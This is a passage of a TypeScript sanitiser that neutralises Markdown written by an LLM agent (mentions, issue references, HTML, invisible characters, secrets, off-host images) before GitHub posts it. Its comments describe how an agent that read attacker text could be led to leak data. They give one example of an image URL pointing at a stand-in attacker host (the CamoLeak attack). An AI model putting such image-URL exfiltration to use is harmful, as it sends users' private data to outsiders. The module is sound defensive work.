import { REPORT_MARKER_PREFIX } from '../names.js';
import { redactText } from '../redact.js';
import {
  CharIndex,
  definitionAt,
  inlineDestination,
  linkTextEnd,
  referenceLabelEnd,
  shortcutLabelEnd,
} from './link-syntax.js';

/**
 * Sanitising handoff text for a GitHub comment or job summary (DESIGN §6, issue 5).
 *
 * Everything in a handoff was written by an LLM that may have read attacker text, and it is posted under
 * the workflow's identity. The output of this module is Markdown that GitHub renders as the *text* the
 * agent wrote, and nothing more:
 *
 * - no notification: every `@user` and `@org/team` ends up inside a code span. GitHub does not link or
 *   notify mentions inside code (its mention filter skips `code`/`pre`), backticks are plain ASCII (no
 *   zero-width tricks, which this module strips anyway), and the name stays readable;
 * - no references to issues, pull requests or discussions: GitHub links each, adds a "mentioned this" entry
 *   to the timeline of the one it names (a backlink the agent could post by the hundred), and closes it after
 *   a closing keyword (`fixes #1`). Every `#1`, `GH-1` and `owner/repo#1` is put in a code span, which GitHub
 *   neither links nor acts on, and so is every URL of one (`https://github.com/o/r/issues/3`, `…/pull/4`,
 *   `…/discussions/5`, on any host, for GitHub Enterprise Server): bare, in `<…>`, or as a link's target, where
 *   the link becomes its text followed by the URL in code;
 * - no hidden text: HTML comments are removed, and every other `<` is escaped, so raw HTML (`<details>`,
 *   `<img>`, an unterminated comment) shows as the text it is and hides nothing. Tags are escaped, not
 *   removed: text in angle brackets is often no HTML at all (`data.<key>`, `Vec<String>`), and removing it
 *   would change what the text says;
 * - no requests to other hosts: every image of a comment or summary is loaded, without a click, by everyone
 *   who views it (through GitHub's image proxy), so an agent that read attacker text could send private text
 *   out in an image's URL (`![x](https://attacker.example/p.png?d=…)`, the CamoLeak attack). An image is
 *   kept only for an `https:` URL on GitHub's own hosts (`isGitHubImage`: github.com, `*.githubusercontent.com`
 *   but the image proxy, and the GitHub server the text is shown on, `SanitizeOptions.serverUrl`); any other
 *   `https:` image becomes a link that says it is one (`[image: x](https://…)`), followed only by a reader
 *   who chooses to, or inside a link's text (a badge) that text alone. Links are kept only for `https:`
 *   URLs. Other URLs become their text (bare `http:`/`www.` URLs become code); reference-style links are
 *   resolved here and their definitions dropped, and every other `[`/`]` is escaped, so no link or image can
 *   form from leftovers (nor from a `!` left before a link this module made: see `Pieces.resolve`);
 * - no invisible characters (zero-width, bidi controls, Unicode tags, variation-selector smuggling);
 * - no secrets (`redactText`, before and after the rewriting, since removing a comment can join two halves);
 * - no forged sticky-comment marker: `baton:report:` is rewritten wherever it appears, code included;
 * - no runaway code: a fence left open is closed at the end of the text, so it cannot swallow the report;
 * - no code that is not code: text is passed through unsanitised only inside a fenced block this module
 *   emits itself, at column 0 after a blank line and with a fence longer than any run inside, so that the
 *   renderer sees a top-level code block exactly where this module assumed one (see `emitCodeBlock`).
 *
 * The approach is "escape unless understood": constructs this module recognises are rebuilt from parts it
 * checked; anything else is left as escaped literal text. In particular every backtick is either part of a
 * code span opened and closed on the same line (so GitHub pairs it exactly as here) or escaped, which is
 * what makes "inside a code span" a guarantee rather than a guess.
 *
 * Every pass is linear in the length of the text, whatever the text (a report job stuck in a regular
 * expression cannot even be cancelled): links are read by the scanners of link-syntax.ts, searches that
 * could restart at every position are loops that remember what they found, and in each regular expression
 * here no two parts can match the same characters one way or another unless nothing after them can fail,
 * so a match backtracks over no more than it read. sanitize-linear.test.ts holds the inputs that made the
 * expressions this module had before take hours.
 */

/** Options shared by the sanitising functions. */
export interface SanitizeOptions {
  /** Secret values to redact, besides the token shapes `redactText` knows. */
  secrets?: readonly string[];
  /**
   * The URL of the GitHub server the text is shown on (the runner's `GITHUB_SERVER_URL`): images on its host
   * (and port) are kept, besides those on github.com and githubusercontent.com. For GitHub Enterprise (a
   * server of its own, or GHE.com); absent, or a URL that does not parse, adds no host.
   */
  serverUrl?: string;
}

/**
 * Characters removed everywhere: C0/C1 controls other than tab and newline, soft hyphen, combining grapheme
 * joiner, Arabic letter mark, Hangul fillers, Mongolian vowel separator, zero-width and bidi controls
 * (U+200B–U+200F, U+202A–U+202E, U+2060–U+206F), variation selectors other than the emoji ones (U+FE0E,
 * U+FE0F), BOM, interlinear annotation, Unicode tags (U+E0000–U+E007F) and the variation selector
 * supplement (U+E0100–U+E01EF), which can smuggle whole texts invisibly.
 */
const INVISIBLE =
  // biome-ignore lint/suspicious/noMisleadingCharacterClass: the class lists single code points on purpose
  /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u00AD\u034F\u061C\u115F\u1160\u17B4\u17B5\u180B-\u180F\u200B-\u200F\u202A-\u202E\u2060-\u206F\u3164\uFE00-\uFE0D\uFEFF\uFFA0\uFFF9-\uFFFB\u{1D173}-\u{1D17A}\u{E0000}-\u{E007F}\u{E0100}-\u{E01EF}]/gu;

/** Remove invisible characters and normalise line ends (`\r\n`, `\r`, U+2028, U+2029 become `\n`). */
export function removeInvisible(text: string): string {
  return text.replace(/\r\n?|[\u2028\u2029]/g, '\n').replace(INVISIBLE, '');
}

/** The marker prefix, neutralised wherever it appears (any case), so no text can carry a sticky marker. */
const MARKER_PREFIX_PATTERN = new RegExp(escapeRegExp(REPORT_MARKER_PREFIX), 'gi');
const NEUTRAL_MARKER_PREFIX = REPORT_MARKER_PREFIX.replace(/:$/, '').replace(/:/g, ' ');

function neutraliseMarker(text: string): string {
  return text.replace(MARKER_PREFIX_PATTERN, `${NEUTRAL_MARKER_PREFIX}: `);
}

function redact(text: string, options: SanitizeOptions): string {
  return redactText(text, options.secrets ?? []).text;
}

/**
 * Sanitise block Markdown (a summary, a detail, a failure reason): the result is safe to place between blank
 * lines anywhere at the top level of a report, or inside `<details>`.
 */
export function sanitizeMarkdown(
  text: string,
  secretsOrOptions: readonly string[] | SanitizeOptions = {},
): string {
  const options = normaliseOptions(secretsOrOptions);
  return untilRedactionFindsNothing(
    text,
    options,
    (input) => {
      const out: string[] = [];
      for (const segment of splitFences(redact(removeInvisible(input), options))) {
        if (segment.kind === 'code') {
          // The fence must follow a blank line: that ends every list item, block quote, table or paragraph
          // the prose before it could have left open.
          const previous = out.at(-1);
          if (previous !== undefined && !endsWithBlankLine(previous)) out.push('');
          // Its lines were redacted with the rest (and the whole is checked again below).
          out.push(emitCodeBlock(segment));
        } else {
          // A token that forms only once a comment is removed is found by the check below, which sanitises
          // again; the marker's brackets are then escaped like any other text.
          const prose = neutraliseMarker(
            sanitizeProse(segment.text, { tables: true, serverUrl: options.serverUrl }),
          );
          out.push(defuseFenceLines(prose));
        }
      }
      return out.join('\n').replace(/^\n+/, '').trimEnd();
    },
    (rest) => codeBlock(rest, options),
  );
}

/** Whether the text's last line holds nothing but spaces and tabs. */
function endsWithBlankLine(text: string): boolean {
  return /^[ \t]*$/.test(text.slice(text.lastIndexOf('\n') + 1));
}

/**
 * `text` as one plain fenced code block (redacted, marker neutralised, a fence longer than any run in it):
 * what shows untrusted text when nothing finer can be trusted to render as intended.
 */
export function codeBlock(text: string, secretsOrOptions: readonly string[] | SanitizeOptions = {}): string {
  const lines = redact(text, normaliseOptions(secretsOrOptions)).split('\n');
  return emitCodeBlock({ kind: 'code', fence: '`', length: 3, info: '', indent: 0, lines });
}

/**
 * Sanitise text for one line of Markdown (a table cell, a list entry, a heading): newlines become spaces and
 * fences are not recognised, so the result never opens a block.
 */
export function sanitizeInline(
  text: string,
  secretsOrOptions: readonly string[] | SanitizeOptions = {},
): string {
  const options = normaliseOptions(secretsOrOptions);
  return untilRedactionFindsNothing(
    text,
    options,
    (input) => {
      const clean = joinLines(redact(removeInvisible(input), options));
      return neutraliseMarker(sanitizeProse(clean, { tables: false, serverUrl: options.serverUrl })).trim();
    },
    (rest) => inlineCode(rest, options),
  );
}

/**
 * Sanitise text for a GFM table cell: inline sanitising, then `|` escaped. Newlines become `<br>`, which
 * this module adds itself after every `<` of the text was escaped. A pipe ends a cell unless an odd number
 * of backslashes comes before it: one already escaped (`\|`, `\\\|`) is left as it is, and reads as it
 * does outside a table; one after an even number (none, `\\|`) gets one more, so it reads as the text's
 * own backslashes and then the pipe.
 */
export function sanitizeTableCell(
  text: string,
  secretsOrOptions: readonly string[] | SanitizeOptions = {},
): string {
  const lines = removeInvisible(text)
    .split('\n')
    .map((line) => sanitizeInline(line, secretsOrOptions))
    .filter((line) => line !== '');
  return escapeCellPipes(lines.join('<br>'));
}

/** Each `|` not already escaped gets a backslash (see sanitizeTableCell); one pass, linear however many backslashes. */
function escapeCellPipes(text: string): string {
  let out = '';
  let backslashes = 0;
  for (const char of text) {
    if (char === '|' && backslashes % 2 === 0) out += '\\';
    out += char;
    backslashes = char === '\\' ? backslashes + 1 : 0;
  }
  return out;
}

/**
 * Untrusted text shown as inline code (a path, a JSON path): one line, invisible characters removed,
 * secrets redacted, the marker neutralised, in a fence longer than any backtick run inside. Nothing in a
 * code span is interpreted, so mentions and references in it are inert. Not for table cells (`|`).
 */
export function inlineCode(text: string, secretsOrOptions: readonly string[] | SanitizeOptions = {}): string {
  const options = normaliseOptions(secretsOrOptions);
  const clean = neutraliseMarker(joinLines(redact(removeInvisible(text), options))).trim();
  const fence = '`'.repeat(longestRun(clean, '`') + 1);
  const pad = clean.startsWith('`') || clean.endsWith('`') || clean === '' ? ' ' : '';
  return `${fence}${pad}${clean}${pad}${fence}`;
}

/** Every run of whitespace that holds a line break becomes one space. */
function joinLines(text: string): string {
  return text.replace(/\s+/g, (run) => (run.includes('\n') ? ' ' : run));
}

/** The length of the longest run of `char` in `text` (counted in a loop: a text can hold a million runs). */
function longestRun(text: string, char: string): number {
  let longest = 0;
  let run = 0;
  for (let i = 0; i < text.length; i++) {
    run = text[i] === char ? run + 1 : 0;
    if (run > longest) longest = run;
  }
  return longest;
}

function normaliseOptions(value: readonly string[] | SanitizeOptions): SanitizeOptions {
  return Array.isArray(value) ? { secrets: value as readonly string[] } : (value as SanitizeOptions);
}

/**
 * Run `sanitize`, then make sure a later redaction of its output changes nothing, or sanitise again.
 *
 * The output is redacted once more by whoever posts it (the job summary and the comment are redacted on the
 * way out), and a redaction is not confined to a line or a code span: a private key's `-----BEGIN … KEY-----`
 * header formed by removing a comment here, and an `-----END … KEY-----` line inside a code block, make one
 * finding that spans the fence between them, so replacing it would drop that fence line (or a code span's
 * backtick) and turn code back into live Markdown. Text that redaction leaves alone cannot be restructured
 * by it. Each round replaces secret material with markers, so this settles at once in practice; if it does
 * not, everything is shown as code.
 */
function untilRedactionFindsNothing(
  text: string,
  options: SanitizeOptions,
  sanitize: (text: string) => string,
  lastResort: (text: string) => string,
): string {
  let out = sanitize(text);
  for (let round = 0; round < 4; round++) {
    const redacted = redactText(out, options.secrets ?? []);
    if (redacted.redactions.length === 0) return out;
    out = sanitize(redacted.text);
  }
  return lastResort(redact(out, options));
}

// ——— fenced code blocks ———————————————————————————————————————————————————————————————————————

type Segment =
  | { kind: 'prose'; text: string }
  | { kind: 'code'; fence: '`' | '~'; length: number; info: string; indent: number; lines: string[] };

/**
 * Split text into prose and fenced code blocks, with CommonMark's rules for top-level fences: up to three
 * spaces of indent, three or more backticks or tildes, a backtick fence's info string has no backtick, and
 * the fence closes at a line of at least as many of the same character. A fence left open is closed here.
 *
 * This reading can be wrong about the input (a fence indented under a list item belongs to that item, and
 * the item ends at the next unindented line), which is why `emitCodeBlock` does not copy the fence lines but
 * writes its own, ones that CommonMark reads the same way in any context.
 */
function splitFences(text: string): Segment[] {
  const lines = text.split('\n');
  const segments: Segment[] = [];
  let prose: string[] = [];
  const flushProse = () => {
    if (prose.length > 0) segments.push({ kind: 'prose', text: prose.join('\n') });
    prose = [];
  };
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i]!;
    const open = /^( {0,3})(`{3,}|~{3,})(.*)$/.exec(line);
    if (!open || (open[2]![0] === '`' && open[3]!.includes('`'))) {
      prose.push(line);
      continue;
    }
    flushProse();
    const fence = open[2]!;
    const closing = new RegExp(`^ {0,3}${fence[0] === '`' ? '`' : '~'}{${fence.length},}[ \\t]*$`);
    const body: string[] = [];
    for (i++; i < lines.length && !closing.test(lines[i]!); i++) body.push(lines[i]!);
    segments.push({
      kind: 'code',
      fence: fence[0] === '`' ? '`' : '~',
      length: fence.length,
      info: infoString(open[3]!),
      indent: open[1]!.length,
      lines: body,
    });
  }
  flushProse();
  return segments;
}

/**
 * A code block holding `segment`'s lines verbatim (already redacted; the marker rewritten), written so that
 * any CommonMark renderer reads it as one top-level fenced code block ending exactly at its closing fence:
 * the fences are at column 0 (indented fences can belong to a list item and end with it) and longer than any
 * run of the fence character inside (so no line of the body can close it). The caller puts a blank line
 * before it, which ends any block quote or paragraph; a line at column 0 cannot continue a list item.
 *
 * Cosmetic changes: the body loses as many leading spaces as the original fence was indented (as CommonMark
 * would strip them), and a block that was indented under a list item now shows below the list.
 */
function emitCodeBlock(segment: Extract<Segment, { kind: 'code' }>): string {
  const strip = new RegExp(`^ {0,${segment.indent}}`);
  const body = neutraliseMarker(segment.lines.map((line) => line.replace(strip, '')).join('\n'));
  const fence = segment.fence.repeat(Math.max(segment.length, longestRun(body, segment.fence) + 1));
  return segment.lines.length === 0
    ? `${fence}${segment.info}\n${fence}`
    : `${fence}${segment.info}\n${body}\n${fence}`;
}

/**
 * Escape the first character of any prose line that CommonMark would read as an opening fence. The passes
 * above can make one (`<b></b>~~~` loses its tag), and a fence opened there would end at the next fence this
 * module emits, turning that block's body into live Markdown.
 */
function defuseFenceLines(prose: string): string {
  return prose.replace(/^( {0,3})(?=~{3}|`{3,}[^`\n]*$)/gm, '$1\\');
}

/**
 * Info strings GitHub does not show as code: it draws them (diagrams, maps, models, formulas), and a map or
 * model loads tiles or files from elsewhere. A handoff's block with one of them is shown as plain code.
 */
const RICH_BLOCKS = new Set(['mermaid', 'geojson', 'topojson', 'stl', 'math']);

/** The language of a fence, reduced to one plain word (the rest of an info string is never needed). */
function infoString(info: string): string {
  const word = /^\s*([A-Za-z0-9_+.#-]{1,32})/.exec(info);
  return word && !RICH_BLOCKS.has(word[1]!.toLowerCase()) ? word[1]! : '';
}

// ——— prose ————————————————————————————————————————————————————————————————————————————————

/**
 * Placeholders stand for pieces already made safe (code spans, kept links, escapes) while the regular
 * expressions below work on the rest. NUL cannot occur in the input (removeInvisible strips it), so a
 * placeholder can neither be forged nor matched by accident; later passes treat it as punctuation.
 */
class Pieces {
  readonly #pieces: string[] = [];
  /** For a piece that is a link standing for an image: its text alone, for use inside another link's text. */
  readonly #plain = new Map<number, string>();
  /** Whether the text may hold GFM table rows (see `sanitizeProse`). */
  readonly tables: boolean;
  /** The URL of the GitHub server whose images are kept besides GitHub's own (`SanitizeOptions.serverUrl`). */
  readonly serverUrl: string | undefined;
  constructor(tables: boolean, serverUrl: string | undefined) {
    this.tables = tables;
    this.serverUrl = serverUrl;
  }
  add(markdown: string, plain?: string): string {
    this.#pieces.push(markdown);
    if (plain !== undefined) this.#plain.set(this.#pieces.length - 1, plain);
    return `\u0000${this.#pieces.length - 1}\u0000`;
  }
  /**
   * `text` (not yet finished) with each placeholder that has a plain form replaced by it: a link's text cannot
   * hold another link (GitHub would keep the inner one and show the outer's brackets and URL as text).
   */
  plain(text: string): string {
    if (this.#plain.size === 0) return text;
    return text.replace(
      /\u0000(\d+)\u0000/g,
      (placeholder, n: string) => this.#plain.get(Number(n)) ?? placeholder,
    );
  }
  /**
   * The text with every placeholder replaced by its piece. A piece that starts with a backtick or a
   * backslash gets a space before it when the output so far ends with one, which would otherwise merge with
   * or escape its opening run; a piece that starts with `[` gets one after a `!`, which would make a link an
   * image (`!![x](…)`: the second `!` made an image that became a link, the first is left).
   */
  resolve(text: string, depth = 0): string {
    const parts: string[] = [];
    // The last character written, kept aside: asking the growing output would copy it every time.
    let previous = '';
    const write = (part: string) => {
      if (part === '') return;
      parts.push(part);
      previous = part[part.length - 1]!;
    };
    let last = 0;
    for (const match of text.matchAll(/\u0000(\d+)\u0000/g)) {
      write(text.slice(last, match.index));
      last = match.index + match[0].length;
      const raw = this.#pieces[Number(match[1])] ?? '';
      const piece = depth < 16 ? this.resolve(raw, depth + 1) : raw.replace(/\u0000/g, '');
      if (/^[`\\]/.test(piece) && (previous === '`' || previous === '\\')) write(' ');
      else if (piece.startsWith('[') && previous === '!') write(' ');
      write(piece);
    }
    write(text.slice(last));
    return parts.join('');
  }
}

const ASCII_PUNCTUATION = /[!-/:-@[-`{-~]/;

/**
 * `tables`: the text may hold GFM table rows. GFM splits a row into cells at every unescaped `|` before it
 * looks for code spans, so in a row `` `a | @x` `` is two cells and the mention is live. In this mode no code
 * span holds a `|`: one in the text is escaped like an unpaired backtick, and one this module makes puts the
 * pipe outside as `\|`. (Off for `sanitizeInline`, whose single line opens no table; `sanitizeTableCell`
 * escapes every pipe itself, and GFM reads `\|` inside a cell's code span as `|`.)
 */
function sanitizeProse(text: string, mode: { tables: boolean; serverUrl: string | undefined }): string {
  const pieces = new Pieces(mode.tables, mode.serverUrl);
  let out = tokeniseCode(text, pieces);
  out = removeHtmlComments(out);
  // Any other HTML is left to escapeLeftovers, which makes every `<` text.
  out = rewriteAutolinks(out, pieces);
  out = rewriteLinks(out, pieces);
  return pieces.resolve(finishText(out, pieces));
}

/** The passes after links: escapes, bare URLs, mentions and references (also run on a kept link's text). */
function finishText(text: string, pieces: Pieces): string {
  let out = escapeLeftovers(text);
  out = rewriteBareUrls(out, pieces);
  return neutraliseNames(out, pieces);
}

/**
 * First pass, in CommonMark's precedence: backslash escapes and code spans. A code span is kept verbatim
 * when its closing run (same length) is on the same line; every other backtick is escaped, so GitHub can
 * pair no backtick differently from this pass. Escapes of characters this module handles itself
 * (`@ # < > & [ ] !`) are dropped so the later passes see the character GitHub would render.
 */
function tokeniseCode(text: string, pieces: Pieces): string {
  const closing = new ClosingRuns(text);
  let out = '';
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (c === '\\' && i + 1 < text.length && ASCII_PUNCTUATION.test(text[i + 1]!)) {
      const next = text[i + 1]!;
      if (next === '`') out += pieces.add('\\`');
      else if (next === '\\') out += pieces.add('\\\\');
      else if ('@#<>&[]!'.includes(next)) out += next;
      else out += `\\${next}`;
      i += 2;
      continue;
    }
    if (c !== '`') {
      out += c;
      i++;
      continue;
    }
    let run = 1;
    while (text[i + run] === '`') run++;
    const close = closing.find(i + run, run);
    if (close === -1 || (pieces.tables && text.slice(i, close).includes('|'))) {
      out += pieces.add('\\`'.repeat(run));
      i += run;
    } else {
      out += pieces.add(text.slice(i, close + run));
      i = close + run;
    }
  }
  return out;
}

/**
 * Where a code span closes: the next run of exactly as many backticks on the same line. Each line's runs are
 * listed once, by length, when the first backtick on it is reached; as the caller only moves forward, each
 * list is then read forward too, so a line with many unpaired runs costs no more than its length.
 */
class ClosingRuns {
  readonly #text: string;
  #lineEnd = -1;
  /** Per run length, the starts of the runs of exactly that length on the current line, and the next to read. */
  #runs = new Map<number, { starts: number[]; next: number }>();

  constructor(text: string) {
    this.#text = text;
  }

  /** The start of the first run of exactly `length` backticks at or after `from` on its line, or -1. */
  find(from: number, length: number): number {
    if (from > this.#lineEnd) this.#listLine(from);
    const runs = this.#runs.get(length);
    if (runs === undefined) return -1;
    while (runs.next < runs.starts.length && runs.starts[runs.next]! < from) runs.next++;
    return runs.next < runs.starts.length ? runs.starts[runs.next]! : -1;
  }

  /** List the runs from `from` (just after a run: no backtick there) to the end of its line. */
  #listLine(from: number): void {
    const text = this.#text;
    const lineEnd = text.indexOf('\n', from);
    this.#lineEnd = lineEnd < 0 ? text.length : lineEnd;
    this.#runs = new Map();
    for (let j = from; j < this.#lineEnd; j++) {
      if (text[j] !== '`') continue;
      let k = j;
      while (text[k] === '`') k++;
      const runs = this.#runs.get(k - j);
      if (runs) runs.starts.push(j);
      else this.#runs.set(k - j, { starts: [j], next: 0 });
      j = k;
    }
  }
}

/**
 * HTML comments removed: `<!-- … -->` up to the first `-->`, and the complete comments `<!-->` and `<!--->`.
 * An unterminated `<!--` stays, for escapeLeftovers to show as text. Once no `-->` follows one `<!--`, none
 * follows any later one, so the text is searched for it once, not once per `<!--`.
 */
function removeHtmlComments(text: string): string {
  let out = '';
  let cursor = 0;
  let unclosed = false;
  let open = text.indexOf('<!--');
  while (open >= 0) {
    const close: number = unclosed ? -1 : text.indexOf('-->', open + 4);
    unclosed = close < 0;
    const end =
      close >= 0
        ? close + 3
        : text.startsWith('<!-->', open)
          ? open + 5
          : text.startsWith('<!--->', open)
            ? open + 6
            : -1;
    if (end < 0) {
      open = text.indexOf('<!--', open + 1);
      continue;
    }
    out += text.slice(cursor, open);
    cursor = end;
    open = text.indexOf('<!--', cursor);
  }
  return out + text.slice(cursor);
}

/**
 * `<scheme:…>` autolinks: kept for https, plain code otherwise and for an issue's URL (see `isIssueUrl`);
 * `<a@b.c>` becomes the bare address.
 */
function rewriteAutolinks(text: string, pieces: Pieces): string {
  return text
    .replace(/<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>\u0000]*)>/g, (_, url: string) => {
      const safe = safeHttpsUrl(url);
      return safe && !isIssueUrl(safe) ? pieces.add(`<${safe}>`) : codeSpan(url, pieces);
    })
    .replace(/<([A-Za-z0-9.!#$%&'*+/=?^_{|}~-]+@[A-Za-z0-9.-]+)>/g, '$1');
}

/** What a link-rewriting pass found at a `[`: the end of the whole construct, and what replaces it. */
type LinkMatch = { end: number; replacement: string } | null;

/**
 * Each match `find` reports at a `[` (with the `!` before it, when `image`), leftmost first and never
 * overlapping, as a global `replace` would: after a match the search goes on at its end, after none at the
 * next `[`.
 */
function replaceLinks(text: string, find: (text: string, open: number, image: boolean) => LinkMatch): string {
  let out = '';
  let cursor = 0;
  let open = text.indexOf('[');
  while (open >= 0) {
    const image = open > cursor && text[open - 1] === '!';
    const match = find(text, open, image);
    if (match === null) {
      open = text.indexOf('[', open + 1);
      continue;
    }
    out += text.slice(cursor, image ? open - 1 : open) + match.replacement;
    cursor = match.end;
    open = text.indexOf('[', cursor);
  }
  return out + text.slice(cursor);
}

/**
 * Links and images. Reference definitions are collected and removed (so none reaches the output, where it
 * could serve a reference elsewhere in the report); references are resolved against them here; inline
 * links are rebuilt when the URL is https and become their text otherwise; images are rebuilt when the URL
 * is https on GitHub's own hosts (`isGitHubImage`), become a link saying they are images when it is https
 * elsewhere, and their text otherwise.
 */
function rewriteLinks(text: string, pieces: Pieces): string {
  const definitions = new Map<string, string>();
  let out = removeDefinitions(text, definitions);
  const build = (image: boolean, inner: string, url: string | undefined) => {
    const parsed = url === undefined ? null : parseHttpsUrl(url.replace(/^<|>$/g, ''));
    const safe = parsed ? destination(parsed) : null;
    const label = rewriteLinks(inner, pieces);
    if (safe && isIssueUrl(safe)) {
      // The text, and the URL as code: readable, and no reference.
      const code = codeSpan(safe, pieces);
      return label.trim() === '' ? code : `${label} (${code})`;
    }
    if (image) {
      const alt = label.trim() === '' ? 'image' : label;
      if (!parsed) return alt;
      if (isGitHubImage(parsed, pieces.serverUrl))
        return pieces.add(`![${finishText(alt, pieces)}](${safe})`);
      // Loaded by nobody: a link the reader may follow, or the text alone inside another link's text.
      const text = pieces.plain(label.trim() === '' ? 'image' : `image: ${label}`);
      return pieces.add(`[${finishText(text, pieces)}](${safe})`, text);
    }
    return safe ? pieces.add(`[${finishText(pieces.plain(label), pieces)}](${safe})`) : label;
  };
  const index = new CharIndex(out);
  out = replaceLinks(out, (text, open, image) => {
    const close = linkTextEnd(text, open);
    const destination = close < 0 ? null : inlineDestination(text, close + 1, index);
    if (destination === null) return null;
    return { end: destination.end, replacement: build(image, text.slice(open + 1, close), destination.url) };
  });
  // Full and collapsed references, `[text][label]` and `[text][]`; an undefined one stays as it is.
  out = replaceLinks(out, (text, open, image) => {
    const close = linkTextEnd(text, open);
    const end = close < 0 ? -1 : referenceLabelEnd(text, close + 1);
    if (end < 0) return null;
    const inner = text.slice(open + 1, close);
    const label = text.slice(close + 2, end - 1);
    const url = definitions.get(normaliseLabel(label === '' ? inner : label));
    return {
      end,
      replacement: url === undefined ? text.slice(image ? open - 1 : open, end) : build(image, inner, url),
    };
  });
  // Shortcut references, `[label]`, when nothing after them makes them something else.
  out = replaceLinks(out, (text, open, image) => {
    const close = shortcutLabelEnd(text, open);
    if (close < 0 || '([:'.includes(text[close + 1] ?? ' ')) return null;
    const inner = text.slice(open + 1, close);
    const url = definitions.get(normaliseLabel(inner));
    return url === undefined ? null : { end: close + 1, replacement: build(image, inner, url) };
  });
  return out;
}

/** Reference definitions, each line by line: removed from the text, the first of each label kept in `into`. */
function removeDefinitions(text: string, into: Map<string, string>): string {
  const index = new CharIndex(text);
  let out = '';
  let cursor = 0;
  for (let line = 0; line >= 0 && line <= text.length; ) {
    const definition = definitionAt(text, line, index);
    const next = text.indexOf('\n', definition ? definition.end : line);
    if (definition) {
      const key = normaliseLabel(definition.label);
      if (!into.has(key)) into.set(key, definition.url.replace(/^<|>$/g, ''));
      out += text.slice(cursor, line);
      cursor = definition.end;
    }
    line = next < 0 ? -1 : next + 1;
  }
  return out + text.slice(cursor);
}

function normaliseLabel(label: string): string {
  return label.trim().replace(/\s+/g, ' ').toLowerCase();
}

/**
 * An https URL in a form safe to put in a link destination, or null. Anything but `https:` with a host is
 * refused (http, data, javascript, relative, protocol-relative). Characters that could end the destination
 * or start a code span are percent-encoded.
 */
export function safeHttpsUrl(raw: string): string | null {
  const url = parseHttpsUrl(raw);
  return url && destination(url);
}

/** `raw` parsed as the WHATWG URL parser (a browser's) reads it, when it is https with a host and no userinfo. */
function parseHttpsUrl(raw: string): URL | null {
  if (!/^https:\/\//i.test(raw)) return null;
  let url: URL;
  try {
    url = new URL(raw);
  } catch {
    return null;
  }
  if (url.protocol !== 'https:' || url.hostname === '' || url.username !== '' || url.password !== '')
    return null;
  return url;
}

/** A parsed URL as written into a link destination: characters that could end it early percent-encoded. */
function destination(url: URL): string {
  return url.href.replace(
    /[^A-Za-z0-9\-._~:/?#@!$&'*+,;=%]/g,
    (c) => `%${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`,
  );
}

/** The host GitHub serves its own files from (raw, user-images, private-user-images, avatars, …). */
const GITHUB_CONTENT_SUFFIX = '.githubusercontent.com';
/**
 * GitHub's image proxy: it fetches whatever URL a signed address names, and anyone can have GitHub sign one
 * (by posting an image anywhere on GitHub), so an image there is a request to any host (the CamoLeak attack).
 */
const GITHUB_IMAGE_PROXY = 'camo.githubusercontent.com';

/**
 * Whether an image at `url` (https, no userinfo) is shown as an image: only when its host is GitHub's own,
 * which keeps no log of who fetched what for the agent's writer to read. github.com and the hosts under
 * githubusercontent.com but the image proxy, on the default port; and the host and port of the GitHub server
 * the report is for. Hosts are compared as the URL parser wrote them (lower case, punycode, no userinfo), and
 * exactly or at a dot: neither `evilgithub.com`, `github.com.evil.example` nor `github.com.` (a trailing dot)
 * is GitHub's.
 */
function isGitHubImage(url: URL, serverUrl: string | undefined): boolean {
  // The server's own host first: a server with a port is matched before the port test below refuses it.
  const serverHost = hostOf(serverUrl);
  if (serverHost !== null && url.host === serverHost) return true;
  if (url.port !== '') return false;
  const host = url.hostname;
  if (host === 'github.com') return true;
  return (
    host.endsWith(GITHUB_CONTENT_SUFFIX) &&
    host !== GITHUB_IMAGE_PROXY &&
    // Whole labels before the suffix: not `.githubusercontent.com` or `a..githubusercontent.com`.
    !host.slice(0, -GITHUB_CONTENT_SUFFIX.length).split('.').includes('')
  );
}

/** The host and port of the GitHub server's URL (as `URL#host` gives them), or null when it does not parse. */
function hostOf(serverUrl: string | undefined): string | null {
  if (!serverUrl) return null;
  try {
    const host = new URL(serverUrl).host;
    return host === '' ? null : host;
  } catch {
    return null;
  }
}

/** The path segments GitHub reads as an issue, a pull request or a discussion when a number follows. */
const ISSUE_SEGMENTS = new Set(['issues', 'pull', 'pulls', 'discussions']);

/**
 * Whether `url` is the URL of an issue, a pull request or a discussion, or of anything under one
 * (`…/pull/2/files`, `…/issues/3#issuecomment-4`): a path segment `issues`, `pull`, `pulls` or `discussions`
 * (percent-encoded or not) followed by one that starts with a digit (`1`, and `1>` or `1fixes` too, where
 * a renderer may end the URL after the number). Any host, since a GitHub Enterprise Server links its own.
 */
function isIssueUrl(url: string): boolean {
  const scheme = url.indexOf('://');
  const rest = scheme < 0 ? url : url.slice(scheme + 3);
  const segments = rest.split(/[?#]/, 1)[0]!.split('/');
  for (let i = 1; i + 1 < segments.length; i++) {
    if (ISSUE_SEGMENTS.has(decodeSegment(segments[i]!).toLowerCase()) && /^\d/.test(segments[i + 1]!)) {
      return true;
    }
  }
  return false;
}

/** A path segment percent-decoded (`%69ssues`), or as written when it does not decode. */
function decodeSegment(segment: string): string {
  try {
    return decodeURIComponent(segment);
  } catch {
    return segment;
  }
}

/** Escape what could still form HTML, entities or links: `&`, `<`, `[`, `]`. */
function escapeLeftovers(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/\[/g, '\\[').replace(/\]/g, '\\]');
}

/** What GitHub's autolinker drops from the end of a bare URL. */
const URL_TRAILING_PUNCTUATION = `?!.,:*_~'"`;

/**
 * Bare URLs GitHub would autolink. Non-https ones (`http:`, `ftp:`, `www.`) become code, so they are
 * neither links nor fetched; so does an https one holding an `@`, which parsers disagree about (is
 * `https://host/@name` all link, or link then mention?), and the URL of an issue (`isIssueUrl`). Other https
 * URLs stay text that GitHub links, set aside so that no later pass reads a `#1` in them as a reference.
 */
function rewriteBareUrls(text: string, pieces: Pieces): string {
  return text.replace(/(?:(?:https?|ftp):\/\/|www\.)[^\s\u0000\\`<]+/gi, (url, offset: number) => {
    // An https URL stays a link only between word boundaries and whitespace: glued to a word before it, or
    // to a backtick, backslash or `<` after it, a renderer may link more or less than this match and swallow
    // the code span or escape next to it. Anything else goes into a code span, which links nothing.
